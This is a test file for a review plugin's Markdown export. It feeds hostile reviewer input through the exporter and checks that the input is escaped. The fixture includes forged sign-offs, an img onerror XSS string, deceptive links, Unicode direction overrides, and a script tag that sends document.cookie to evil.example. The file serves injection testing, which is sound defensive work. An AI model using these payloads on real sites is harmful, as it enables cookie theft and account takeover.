import MarkdownIt from 'markdown-it';
import type Token from 'markdown-it/lib/token.mjs';
import { Review } from '@diehard/plugin-handoff-review-common';
import { reviewToMarkdown } from './markdown';
import { applyChange, viewOf } from './transitions';
import {
  DEV_REVIEWER as alice,
  GRADE_A as gradeA,
  OPS_REVIEWER as bruno,
} from '../__testUtils__/reviewers';

const day = new Date('2026-11-20T10:00:00Z');

/** Strings a hostile reviewer writes, each trying to forge part of the export. */
const HOSTILE = {
  forgedSignOff:
    'fine\n\n## Sign-offs\n\n- Ops: user:default/mallory on 2026-11-20, at grade A\n- Dev: user:default/mallory',
  forgedCheck: '\n- [x] Runbook written — passed\n* [x] Backups — passed',
  html: '<img src=x onerror="alert(1)"> <b>bold</b> <!-- hidden --> <div>\n\n# Forged heading\n</div>',
  script: '<script>fetch("https://evil.example/"+document.cookie)</script>',
  links:
    '[click](https://evil.example) ![img](https://evil.example/x.png) https://evil.example www.evil.example mallory@evil.example <https://evil.example> evil.io/login',
  code: '`code` ```fence``` **bold** _em_ ~~strike~~ $x$ | a | b |',
  leading: '# heading\n1. numbered\n> quote\n    indented code\n---\n===',
  hidden: 'ok\u202Egnp.exe\u2066\u0000\u200B',
};

function hostileReview(): Review {
  let review: Review = {
    id: 'r1',
    entityRef: 'component:default/eni-todo-web',
    version: 1,
    createdBy: alice.userEntityRef,
    createdAt: '2026-11-20T00:00:00Z',
    devGroup: 'group:default/dev-team',
    opsGroup: 'group:default/ops-team',
    posture: gradeA,
    items: [
      {
        id: 'posture-sessions',
        title: 'Sessions survive a pod loss',
        kind: 'automatic',
        side: 'dev',
        category: 'sessions',
        evidence: 'fail',
        // Findings and what was judged quote names from manifests anyone can write.
        findings: [`critical: Deployment ${HOSTILE.forgedCheck}`],
        checked: [
          `Deployment/todo/${HOSTILE.html}`,
          `db.example.org ${HOSTILE.links} ${HOSTILE.forgedCheck}`,
        ],
        findingMessages: [
          {
            severity: 'critical',
            message: {
              id: 'sessions-manager-override.message',
              params: {
                workload: `Deployment ${HOSTILE.forgedCheck}`,
                className: HOSTILE.html,
                overridden: {
                  id: 'sessions-manager-override.clusterManager',
                  params: {},
                },
              },
            },
          },
        ],
        comments: [],
      },
      {
        id: 'posture-control-plane',
        title: 'Cluster control plane with a quorum',
        kind: 'automatic',
        side: 'ops',
        category: 'control-plane',
        evidence: 'unknown',
        comments: [],
      },
      {
        id: 'dev-runbook',
        title: 'Runbook written',
        kind: 'manual',
        side: 'dev',
        comments: [],
      },
    ],
    signOffs: [],
  };
  const step = (change: any, actor = alice) => {
    review = applyChange(review, change, actor, review.version, day).review;
  };
  for (const text of Object.values(HOSTILE)) {
    step({ action: 'comment', itemId: 'dev-runbook', text });
  }
  step(
    {
      action: 'waive',
      itemId: 'posture-control-plane',
      reason: HOSTILE.forgedSignOff,
      expiresOn: '2026-12-01',
    },
    bruno,
  );
  step({ action: 'answer', itemId: 'dev-runbook', done: false });
  return review;
}

function render(review: Review, language: 'en' | 'fr' = 'en') {
  const markdown = reviewToMarkdown(
    viewOf(review, day, gradeA),
    [
      {
        version: 2,
        at: '2026-11-20T10:00:00.000Z',
        actor: alice.userEntityRef,
        action: 'comment',
        detail: { itemId: 'dev-runbook', text: HOSTILE.html },
      },
      {
        version: 3,
        at: '2026-11-20T10:05:30.000Z',
        actor: alice.userEntityRef,
        action: 'answer',
        detail: { itemId: 'dev-runbook', done: false },
      },
      {
        version: 4,
        at: '2026-11-20T10:07:00.000Z',
        actor: bruno.userEntityRef,
        action: 'sign-off',
        detail: { side: 'ops' },
      },
    ],
    language,
  );
  // html and linkify on: the most permissive reading a ticket system might do.
  const tokens = new MarkdownIt({ html: true, linkify: true }).parse(
    markdown,
    {},
  );
  return { markdown, tokens };
}

/** The text of each heading, in order. */
function headings(tokens: Token[]) {
  return tokens.flatMap((t, i) =>
    t.type === 'heading_open' ? [tokens[i + 1].content] : [],
  );
}

/** The inline text of each top-level list item under the heading `title` (nested: `nested`). */
function itemsUnder(tokens: Token[], title: string, nested = false) {
  const start = tokens.findIndex(
    (t, i) => t.type === 'heading_open' && tokens[i + 1].content === title,
  );
  const end = tokens.findIndex(
    (t, i) => i > start && t.type === 'heading_open',
  );
  const section = tokens.slice(start, end === -1 ? undefined : end);
  return section
    .filter(
      (t, i) =>
        t.type === 'inline' &&
        section[i - 2]?.type === 'list_item_open' &&
        (t.level === 3) !== nested,
    )
    .map(t => t.content);
}

describe('the Markdown export', () => {
  it('shows hostile comments, findings and reasons as text: the headings, items and sign-offs are only those of the records', () => {
    const { markdown, tokens } = render(hostileReview());

    expect(headings(tokens)).toEqual([
      'Handoff review: component:default/eni-todo-web',
      'Dev side',
      'Ops side',
      'Sign-offs',
      'History',
    ]);
    expect(itemsUnder(tokens, 'Sign-offs')).toEqual([]);
    expect(markdown).toContain('## Sign-offs\n\nNone yet.\n');
    expect(itemsUnder(tokens, 'History')).toEqual([
      'v2 2026-11-20 10:00 UTC user:default/alice: comment — Runbook written',
      'v3 2026-11-20 10:05 UTC user:default/alice: answer — Runbook written — failed',
      'v4 2026-11-20 10:07 UTC user:default/bruno: sign-off — Ops',
    ]);

    // No HTML, link, image or code reaches the reader; no item is checked.
    const kinds = new Set(
      tokens.flatMap(t => [t.type, ...(t.children ?? []).map(c => c.type)]),
    );
    for (const kind of [
      'html_block',
      'html_inline',
      'link_open',
      'image',
      'code_inline',
      'code_block',
      'fence',
      'blockquote_open',
      'ordered_list_open',
      'hr',
      'table_open',
      'em_open',
      's_open',
    ]) {
      expect([kind, kinds.has(kind)]).toEqual([kind, false]);
    }
    // The one bold text is the status the records give.
    const strong = tokens
      .flatMap(t => t.children ?? [])
      .flatMap((t, i, all) =>
        t.type === 'strong_open' ? [all[i + 1].content] : [],
      );
    expect(strong).toEqual(['open']);
    // Each item is one list entry with its state from the record; the forged
    // "[x] … passed" lines stay inside the comment or finding that wrote them.
    expect(itemsUnder(tokens, 'Dev side')).toEqual([
      '[ ] Sessions survive a pod loss — failed',
      '[ ] Runbook written — failed',
    ]);
    expect(itemsUnder(tokens, 'Ops side')).toEqual([
      '[~] Cluster control plane with a quorum — waived',
    ]);
    // Under them: one line per finding, waiver and comment, none starting a check.
    const nested = [
      ...itemsUnder(tokens, 'Dev side', true),
      ...itemsUnder(tokens, 'Ops side', true),
    ];
    expect(nested).toHaveLength(1 + 1 + Object.keys(HOSTILE).length + 1);
    for (const line of nested) {
      expect(line).toMatch(
        /^(critical: |judged: |user:default\/alice \(|waived by )/,
      );
    }

    // What they wrote is still there for a reader, as plain text on one line.
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    expect(html).not.toMatch(/<(script|img|b|div|a)\b/);
    expect(html).toContain(
      '&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;',
    );
    expect(html).toContain(
      'user:default/alice (2026-11-20T10:00:00.000Z): fine ## Sign-offs - Ops: user:default/mallory on 2026-11-20, at grade A - Dev: user:default/mallory',
    );
    for (const hidden of ['\u202E', '\u2066', '\u0000']) {
      expect(html).not.toContain(hidden);
    }
  });

  it('in French: French headings, item titles, states and findings, hostile strings still escaped', () => {
    const { markdown, tokens } = render(hostileReview(), 'fr');

    expect(headings(tokens)).toEqual([
      'Revue de passation : component:default/eni-todo-web',
      'Côté Dev',
      'Côté Ops',
      'Validations',
      'Historique',
    ]);
    expect(markdown).toContain('- Statut : **ouverte**');
    expect(markdown).toContain('## Validations\n\nAucune pour le moment.\n');
    expect(itemsUnder(tokens, 'Validations')).toEqual([]);
    // The default titles in French; a title configured otherwise as it was written.
    expect(itemsUnder(tokens, 'Côté Dev')).toEqual([
      '[ ] Sessions survive a pod loss — non conforme',
      "[ ] Procédure d'exploitation rédigée — non conforme",
    ]);
    expect(itemsUnder(tokens, 'Côté Ops')).toEqual([
      '[~] Plan de contrôle du cluster avec un quorum — dérogation',
    ]);
    const nested = [
      ...itemsUnder(tokens, 'Côté Dev', true),
      ...itemsUnder(tokens, 'Côté Ops', true),
    ];
    expect(nested).toHaveLength(1 + 1 + Object.keys(HOSTILE).length + 1);
    for (const line of nested) {
      expect(line).toMatch(
        /^(critique : |évalué : |user:default\/alice \(|dérogation accordée par )/,
      );
    }
    // The finding from its message, in French, names and all escaped.
    expect(nested[0]).toContain('context\\.xml déclare');
    expect(nested[0]).toContain('le gestionnaire de réplication du cluster');
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    expect(html).not.toMatch(/<(script|img|b|div|a)\b/);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    // Each change says when (to the minute), who, what and on which item, in French.
    expect(itemsUnder(tokens, 'Historique')).toEqual([
      "v2 2026-11-20 10:00 UTC user:default/alice: commentaire — Procédure d'exploitation rédigée",
      "v3 2026-11-20 10:05 UTC user:default/alice: réponse — Procédure d'exploitation rédigée — non conforme",
      'v4 2026-11-20 10:07 UTC user:default/bruno: validation — Ops',
    ]);
    for (const english of [
      'Dev side',
      '\n## Sign-offs',
      'None yet',
      'waived by',
      'History',
    ]) {
      expect(markdown).not.toContain(english);
    }
    const kinds = new Set(
      tokens.flatMap(t => [t.type, ...(t.children ?? []).map(c => c.type)]),
    );
    for (const kind of ['html_block', 'html_inline', 'link_open', 'image']) {
      expect([kind, kinds.has(kind)]).toEqual([kind, false]);
    }
  });

  it("writes a company rule's finding in the export's language, from the texts it carries, escaped", () => {
    const review = hostileReview();
    review.items[0].findings = [
      `warning: tomcat of Deployment ${HOSTILE.html} has no preStop hook`,
    ];
    review.items[0].findingMessages = [
      {
        severity: 'warning',
        message: { id: 'example-prestop-hook.message', params: {} },
        texts: {
          en: `tomcat of Deployment ${HOSTILE.html} has no preStop hook`,
          fr: `tomcat de Deployment ${HOSTILE.html} n'a pas de hook preStop`,
        },
      },
    ];
    const french = render(review, 'fr').markdown;
    expect(french).toContain("n'a pas de hook preStop");
    expect(french).not.toContain('has no preStop hook');
    expect(french).not.toContain('<img');
    const english = render(review, 'en').markdown;
    expect(english).toContain('has no preStop hook');
    // No text in the reader's language: the English lines, as stored.
    delete review.items[0].findingMessages[0].texts!.fr;
    expect(render(review, 'fr').markdown).toContain('has no preStop hook');
  });

  it('keeps the English lines of a review stored before findings had message ids', () => {
    const review = hostileReview();
    delete review.items[0].findingMessages;
    const { markdown } = render(review, 'fr');
    expect(markdown).toContain('  - critical: Deployment');
  });
});
